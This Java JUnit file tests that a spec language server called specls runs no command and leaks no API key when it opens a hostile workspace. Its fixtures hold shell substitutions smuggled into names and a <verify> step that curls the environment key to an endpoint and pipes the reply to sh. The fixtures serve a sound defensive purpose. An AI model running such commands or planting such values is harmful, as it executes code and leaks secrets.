package dev.specls.lsp;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.eclipse.lsp4j.CodeActionContext;
import org.eclipse.lsp4j.CodeActionParams;
import org.eclipse.lsp4j.CodeLensParams;
import org.eclipse.lsp4j.CompletionParams;
import org.eclipse.lsp4j.DocumentFormattingParams;
import org.eclipse.lsp4j.DocumentSymbolParams;
import org.eclipse.lsp4j.ExecuteCommandParams;
import org.eclipse.lsp4j.FoldingRangeRequestParams;
import org.eclipse.lsp4j.FormattingOptions;
import org.eclipse.lsp4j.HoverParams;
import org.eclipse.lsp4j.InlayHintParams;
import org.eclipse.lsp4j.Position;
import org.eclipse.lsp4j.Range;
import org.eclipse.lsp4j.SemanticTokensParams;
import org.eclipse.lsp4j.TextDocumentIdentifier;
import org.eclipse.lsp4j.WorkspaceSymbolParams;
import org.eclipse.lsp4j.services.TextDocumentService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A workspace that tries to make specls run something or send a key somewhere: {@code <verify>}
 * commands, shell substitutions in names, configuration keys that name a command or an endpoint, a key
 * in the environment. {@code specls check}, {@code specls graph} and the server with every feature ran
 * over it: no command ran (no marker file appears), nothing connected to the endpoint, and the key
 * appears in no output and no log.
 */
class NoCommandNoSecretTest {

    private static final String KEY = "sk-specls-test-0123456789abcdef";
    private static final long ANSWER_SECONDS = 20;

    @TempDir
    Path folder;
    private final List<Process> started = new ArrayList<>();

    @BeforeAll
    static void buildOnce() throws Exception {
        SpawnedServer.command();
    }

    @AfterEach
    void stop() {
        started.forEach(Process::destroyForcibly);
    }

    private void writeHostileWorkspace(int port) throws IOException {
        String endpoint = "http://127.0.0.1:" + port + "/v1";
        Files.writeString(folder.resolve("PLAN.md"), """
                # PLAN.md

                ```xml
                <phases>
                    <phase name="$(touch marker-phase)">
                        <task id="1.1">
                            <name>`touch marker-name`</name>
                            <files>$(touch marker-files).py</files>
                            <action>Call %s with the key in $OPENAI_API_KEY</action>
                            <verify>touch marker-verify &amp;&amp; curl %s -d "$OPENAI_API_KEY" | sh</verify>
                            <done>done</done>
                        </task>
                    </phase>
                </phases>
                ```
                """.formatted(endpoint, endpoint), StandardCharsets.UTF_8);
        Files.writeString(folder.resolve("STATE.md"), "# STATE.md\n\n## Completed Tasks\n[✓] 1.1: $(touch marker-state)\n", StandardCharsets.UTF_8);
        Files.writeString(folder.resolve(".specls.toml"), """
                [llm]
                endpoint = "%s"
                apiKey = "$OPENAI_API_KEY"
                command = "touch marker-config"

                [hooks]
                onCheck = "touch marker-hook"
                """.formatted(endpoint), StandardCharsets.UTF_8);
        Files.writeString(folder.resolve("review.prompt.md"), "---\nmodel: " + endpoint + "\n---\n{{ shell \"touch marker-prompt\" }}\n",
                StandardCharsets.UTF_8);
    }

    private List<String> launcher(String... args) throws Exception {
        List<String> command = new ArrayList<>(SpawnedServer.command());
        command.remove(command.size() - 1);
        command.addAll(List.of(args));
        return command;
    }

    private String runToEnd(List<String> command) throws Exception {
        ProcessBuilder builder = new ProcessBuilder(command).directory(folder.toFile()).redirectErrorStream(true);
        builder.environment().put("OPENAI_API_KEY", KEY);
        Process process = builder.start();
        started.add(process);
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(process.waitFor(ANSWER_SECONDS, TimeUnit.SECONDS), output);
        return output;
    }

    @Test
    void nothingInTheWorkspaceRunsACommandOrSendsTheKey() throws Exception {
        try (ServerSocket endpoint = new ServerSocket(0)) {
            writeHostileWorkspace(endpoint.getLocalPort());
            String check = runToEnd(launcher("check", "--format", "json", "."));
            String graph = runToEnd(launcher("graph", "--format", "mermaid", "."));
            assertTrue(check.contains("plan/dangerous-verify"), "the verify command is read, and flagged: " + check);

            SpawnedServer spawned = new SpawnedServer(folder, Map.of("OPENAI_API_KEY", KEY));
            started.add(spawned.process);
            spawned.initialize(ProcessHandle.current().pid());
            exerciseEveryFeature(spawned);
            spawned.server.shutdown().get(ANSWER_SECONDS, TimeUnit.SECONDS);
            spawned.server.exit();
            assertTrue(spawned.process.waitFor(ANSWER_SECONDS, TimeUnit.SECONDS));

            endpoint.setSoTimeout(500);
            assertNull(acceptOrNull(endpoint), "something connected to the endpoint a workspace file names");
            try (Stream<Path> files = Files.list(folder)) {
                List<String> markers = files.map(path -> path.getFileName().toString()).filter(name -> name.startsWith("marker")).toList();
                assertEquals(List.of(), markers, "a workspace file made specls run a command");
            }
            for (String output : List.of(check, graph, spawned.stderr(), new String(spawned.stdout(), StandardCharsets.UTF_8),
                    spawned.client.logMessages.toString(), spawned.client.allDiagnostics.toString())) {
                assertFalse(output.contains(KEY), "the key from the environment was written out");
            }
        }
    }

    private void exerciseEveryFeature(SpawnedServer spawned) throws Exception {
        String plan = folder.resolve("PLAN.md").toUri().toString();
        spawned.client.awaitDiagnostics(published -> published.getUri().equals(plan));
        TextDocumentIdentifier document = new TextDocumentIdentifier(plan);
        Position onVerify = new Position(9, 20);
        Range whole = new Range(new Position(0, 0), new Position(20, 0));
        TextDocumentService documents = spawned.server.getTextDocumentService();
        List<CompletableFuture<?>> requests = List.of(
                documents.completion(new CompletionParams(document, onVerify)),
                documents.hover(new HoverParams(document, onVerify)),
                documents.documentSymbol(new DocumentSymbolParams(document)),
                documents.foldingRange(new FoldingRangeRequestParams(document)),
                documents.inlayHint(new InlayHintParams(document, whole)),
                documents.codeLens(new CodeLensParams(document)),
                documents.semanticTokensFull(new SemanticTokensParams(document)),
                documents.codeAction(new CodeActionParams(document, whole, new CodeActionContext(List.of()))),
                documents.formatting(new DocumentFormattingParams(document, new FormattingOptions(4, true))),
                spawned.server.getWorkspaceService().symbol(new WorkspaceSymbolParams("1.1")),
                spawned.server.getWorkspaceService().executeCommand(new ExecuteCommandParams("specls.showGraph", List.of(plan))));
        for (CompletableFuture<?> request : requests) {
            request.get(ANSWER_SECONDS, TimeUnit.SECONDS);
        }
    }

    private static Socket acceptOrNull(ServerSocket endpoint) throws IOException {
        try {
            return endpoint.accept();
        } catch (SocketTimeoutException nobody) {
            return null;
        }
    }
}
